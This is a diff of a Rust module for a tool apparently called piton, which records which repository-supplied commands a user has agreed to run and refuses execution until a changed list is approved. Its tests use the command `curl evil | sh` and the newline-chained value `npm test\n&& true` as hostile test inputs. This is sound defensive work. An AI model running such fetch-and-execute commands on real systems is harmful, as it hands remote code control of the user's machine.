@@ -1,25 +1,65 @@
 //! What a person has agreed to run. Nothing that a repository supplies is executed before its user has
 //! seen the list; the list, not the plan, is what is trusted, so any change of it asks again. Kept in
 //! the user's state, outside of every repository, where an agent's worktree does not reach.
+//!
+//! [`Trusted`] is the leave to execute. Only this module makes one, and nothing that a repository
+//! supplies can be started without it.
 
+use std::collections::BTreeMap;
 use std::fs::{self, DirBuilder, OpenOptions};
 use std::io::{self, Write};
 use std::os::unix::fs::{DirBuilderExt, MetadataExt, OpenOptionsExt};
 use std::path::{Path, PathBuf};
 
-use piton_core::ids::Hash;
+use piton_core::ids::{AgentName, Hash};
+use piton_core::plan::{Agent, Plan, executables, trust_hash};
 
-use crate::config::xdg;
+use crate::config::{self, Layers, xdg};
+use crate::error::EngineError;
+use crate::project::Project;
+
+/// Leave to execute what a plan and the agents recorded with its run say: their user has agreed to it.
+pub struct Trusted {
+    plan: Plan,
+    agents: BTreeMap<AgentName, Agent>,
+}
+
+impl Trusted {
+    /// Looks the plan and the agents of its settings up in the user's agreements, as they are now.
+    pub(crate) fn require(
+        project: &Project,
+        plan_file: &Path,
+        plan: &Plan,
+        agents: BTreeMap<AgentName, Agent>,
+    ) -> Result<Trusted, EngineError> {
+        let list = TrustList::new(project, plan_file, plan, &agents)?;
+        match list.look_up()? {
+            Trust::Trusted => Ok(Trusted { plan: plan.clone(), agents }),
+            Trust::Untrusted { new, gone } => {
+                Err(EngineError::Untrusted { plan: list.plan, new, gone })
+            }
+        }
+    }
+
+    pub(crate) fn plan(&self) -> &Plan {
+        &self.plan
+    }
+
+    /// An agent's definition; the plan's own wins.
+    pub(crate) fn agent(&self, name: &AgentName) -> Option<&Agent> {
+        self.plan.agents.get(name).or_else(|| self.agents.get(name))
+    }
+}
 
 /// Where agreements are kept.
 #[derive(Debug, Clone)]
-pub struct Agreements {
+struct Agreements {
     folder: PathBuf,
 }
 
 /// What trust is asked for: everything a plan of a repository can make this machine execute.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Asked {
+pub struct TrustList {
     /// The repository's git directory, shared by its worktrees: the same words mean another thing
     /// in another repository.
     pub repository: PathBuf,
@@ -30,12 +70,48 @@ pub struct Asked {
     pub hash: Hash,
 }
 
+impl TrustList {
+    /// The list of a plan and of the agents of its settings. An agent that is word for word in the
+    /// user's own configuration needs no trust.
+    pub fn new(
+        project: &Project,
+        plan_file: &Path,
+        plan: &Plan,
+        agents: &BTreeMap<AgentName, Agent>,
+    ) -> Result<TrustList, EngineError> {
+        let own = config::user_agents(&Layers::of_process(None))?;
+        let foreign = agents.iter().filter(|(name, agent)| own.get(*name) != Some(*agent));
+        let foreign = foreign.map(|(name, agent)| (name.clone(), agent.clone())).collect();
+        let executables = executables(plan, &foreign);
+        let path = fs::canonicalize(plan_file).or_else(|_| std::path::absolute(plan_file));
+        Ok(TrustList {
+            repository: project.git.common_dir().to_owned(),
+            plan: path.map_err(EngineError::io("the plan's path"))?,
+            hash: trust_hash(&executables),
+            executables,
+        })
+    }
+
+    /// Whether the user has agreed to this list. Writes nothing.
+    pub fn look_up(&self) -> Result<Trust, TrustError> {
+        match self.executables.is_empty() {
+            // Nothing is asked of a user without a home.
+            true => Ok(Trust::Trusted),
+            false => Agreements::of_user()?.check(self),
+        }
+    }
+
+    /// Records that the user agrees to this list.
+    pub fn grant(&self) -> Result<(), TrustError> {
+        Agreements::of_user()?.grant(self)
+    }
+}
+
 /// Whether a list was agreed to.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Trust {
     Trusted,
     Untrusted {
-        hash: Hash,
         /// What the list trusted for this plan before did not have; everything, if there was none.
         new: Vec<String>,
         /// What it had and this one does not.
@@ -55,50 +131,46 @@ pub enum TrustError {
 
 impl Agreements {
     /// `$XDG_STATE_HOME/piton/trust`, or the same under `~/.local/state`.
-    pub fn of_user() -> Result<Agreements, TrustError> {
+    fn of_user() -> Result<Agreements, TrustError> {
         let env = |name: &str| std::env::var(name).ok();
         let state = xdg(&env, "XDG_STATE_HOME", ".local/state").ok_or(TrustError::NoHome)?;
         Ok(Agreements::at(state.join("piton").join("trust")))
     }
 
-    pub fn at(folder: PathBuf) -> Agreements {
+    fn at(folder: PathBuf) -> Agreements {
         Agreements { folder }
     }
 
     /// Whether this list was agreed to. Writes nothing.
-    pub fn check(&self, asked: &Asked) -> Result<Trust, TrustError> {
-        if asked.executables.is_empty() {
-            return Ok(Trust::Trusted);
-        }
+    fn check(&self, list: &TrustList) -> Result<Trust, TrustError> {
         if self.folder_exists()? {
-            let agreed = self.read_list(&self.list(asked))?;
-            if agreed.as_deref() == Some(asked.executables.as_slice()) {
+            let agreed = self.read_list(&self.list_file(list))?;
+            if agreed.as_deref() == Some(list.executables.as_slice()) {
                 return Ok(Trust::Trusted);
             }
         }
-        let before = self.last(asked)?.unwrap_or_default();
+        let before = self.last(list)?.unwrap_or_default();
         let missing = |from: &[String], other: &[String]| {
             from.iter().filter(|entry| !other.contains(entry)).cloned().collect()
         };
         Ok(Trust::Untrusted {
-            hash: asked.hash,
-            new: missing(&asked.executables, &before),
-            gone: missing(&before, &asked.executables),
+            new: missing(&list.executables, &before),
+            gone: missing(&before, &list.executables),
         })
     }
 
     /// Records that this list was agreed to.
-    pub fn grant(&self, asked: &Asked) -> Result<(), TrustError> {
+    fn grant(&self, list: &TrustList) -> Result<(), TrustError> {
         self.make_folder()?;
-        let list = serde_json::to_vec_pretty(&asked.executables)
+        let bytes = serde_json::to_vec_pretty(&list.executables)
             .expect("a list of strings can always be written");
-        self.replace(&self.list(asked), &list)?;
-        self.replace(&self.index(asked), key(asked).to_string().as_bytes())
+        self.replace(&self.list_file(list), &bytes)?;
+        self.replace(&self.index(list), key(list).to_string().as_bytes())
     }
 
     /// The list trusted for this plan before, if any.
-    fn last(&self, asked: &Asked) -> Result<Option<Vec<String>>, TrustError> {
-        let Some(bytes) = self.read(&self.index(asked))? else { return Ok(None) };
+    fn last(&self, list: &TrustList) -> Result<Option<Vec<String>>, TrustError> {
+        let Some(bytes) = self.read(&self.index(list))? else { return Ok(None) };
         let text = String::from_utf8_lossy(&bytes).into_owned();
         match Hash::try_from(text) {
             Ok(hash) => self.read_list(&self.folder.join(hash.to_string())),
@@ -106,12 +178,12 @@ impl Agreements {
         }
     }
 
-    fn list(&self, asked: &Asked) -> PathBuf {
-        self.folder.join(key(asked).to_string())
+    fn list_file(&self, list: &TrustList) -> PathBuf {
+        self.folder.join(key(list).to_string())
     }
 
-    fn index(&self, asked: &Asked) -> PathBuf {
-        let name = [path_bytes(&asked.repository), b"\0", path_bytes(&asked.plan)].concat();
+    fn index(&self, list: &TrustList) -> PathBuf {
+        let name = [path_bytes(&list.repository), b"\0", path_bytes(&list.plan)].concat();
         self.folder.join(format!("last-{}", Hash::of(&name)))
     }
 
@@ -159,8 +231,8 @@ impl Agreements {
 }
 
 /// A list is agreed to in one repository: `make test` is another program in another one.
-fn key(asked: &Asked) -> Hash {
-    Hash::of(&[asked.hash.as_bytes().as_slice(), path_bytes(&asked.repository)].concat())
+fn key(list: &TrustList) -> Hash {
+    Hash::of(&[list.hash.as_bytes().as_slice(), path_bytes(&list.repository)].concat())
 }
 
 fn path_bytes(path: &Path) -> &[u8] {
@@ -190,9 +262,7 @@ impl TrustError {
     /// The next thing to type.
     pub fn hint(&self) -> Option<String> {
         match self {
-            TrustError::NoHome => {
-                Some("`export HOME=~` names one; --trust goes on for once without it".to_owned())
-            }
+            TrustError::NoHome => Some("`export HOME=~` names one".to_owned()),
             TrustError::Unsafe { path, .. } | TrustError::Io { path, .. } => {
                 Some(format!("see what is there: `ls -ld '{}'`", path.display()))
             }
@@ -206,11 +276,11 @@ mod tests {
 
     use super::*;
 
-    fn asked(executables: &[&str]) -> Asked {
+    fn asked(executables: &[&str]) -> TrustList {
         let executables: Vec<String> = executables.iter().map(|&text| text.to_owned()).collect();
         let hash = Hash::of(executables.join("\0").as_bytes());
         let (repository, plan) = (PathBuf::from("/repo/.git"), PathBuf::from("plan.toml"));
-        Asked { repository, plan, executables, hash }
+        TrustList { repository, plan, executables, hash }
     }
 
     fn place() -> (tempfile::TempDir, Agreements) {
@@ -223,13 +293,12 @@ mod tests {
     fn a_list_is_trusted_once_granted_and_looking_writes_nothing() {
         let (folder, agreements) = place();
         let list = asked(&["make", "npm test\n&& true"]);
-        let unknown =
-            Trust::Untrusted { hash: list.hash, new: list.executables.clone(), gone: vec![] };
+        let unknown = Trust::Untrusted { new: list.executables.clone(), gone: vec![] };
         assert_eq!(agreements.check(&list).expect("checked"), unknown);
         assert!(!folder.path().join("state").exists(), "looking made a folder");
         agreements.grant(&list).expect("granted");
         assert_eq!(agreements.check(&list).expect("checked"), Trust::Trusted);
-        assert_eq!(agreements.check(&asked(&[])).expect("checked"), Trust::Trusted);
+        assert_eq!(asked(&[]).look_up().expect("checked"), Trust::Trusted);
     }
 
     #[test]
@@ -237,8 +306,7 @@ mod tests {
         let (_folder, agreements) = place();
         agreements.grant(&asked(&["make", "npm test"])).expect("granted");
         let changed = asked(&["make", "curl evil | sh"]);
-        let Trust::Untrusted { new, gone, .. } = agreements.check(&changed).expect("checked")
-        else {
+        let Trust::Untrusted { new, gone } = agreements.check(&changed).expect("checked") else {
             panic!("a changed list is not trusted");
         };
         assert_eq!((new, gone), (vec!["curl evil | sh".to_owned()], vec!["npm test".to_owned()]));
@@ -249,7 +317,7 @@ mod tests {
         let (_folder, agreements) = place();
         let here = asked(&["make"]);
         agreements.grant(&here).expect("granted");
-        let there = Asked { repository: PathBuf::from("/other/.git"), ..here };
+        let there = TrustList { repository: PathBuf::from("/other/.git"), ..here };
         assert!(matches!(agreements.check(&there), Ok(Trust::Untrusted { .. })));
     }
 
@@ -260,9 +328,9 @@ mod tests {
         agreements.grant(&list).expect("granted");
         let mode = |path: &Path| fs::metadata(path).expect("there").mode() & 0o777;
         assert_eq!(mode(&agreements.folder), 0o700);
-        assert_eq!(mode(&agreements.list(&list)), 0o600);
+        assert_eq!(mode(&agreements.list_file(&list)), 0o600);
 
-        fs::set_permissions(agreements.list(&list), fs::Permissions::from_mode(0o666))
+        fs::set_permissions(agreements.list_file(&list), fs::Permissions::from_mode(0o666))
             .expect("its owner may");
         assert!(matches!(agreements.check(&list), Err(TrustError::Unsafe { .. })));
 
@@ -277,9 +345,9 @@ mod tests {
         let (_folder, agreements) = place();
         let list = asked(&["make"]);
         agreements.grant(&list).expect("granted");
-        fs::write(agreements.list(&list), b"[\"other\"]").expect("written");
+        fs::write(agreements.list_file(&list), b"[\"other\"]").expect("written");
         assert!(matches!(agreements.check(&list), Ok(Trust::Untrusted { .. })));
-        fs::write(agreements.list(&list), b"{torn").expect("written");
+        fs::write(agreements.list_file(&list), b"{torn").expect("written");
         assert!(matches!(agreements.check(&list), Ok(Trust::Untrusted { .. })));
     }
 }
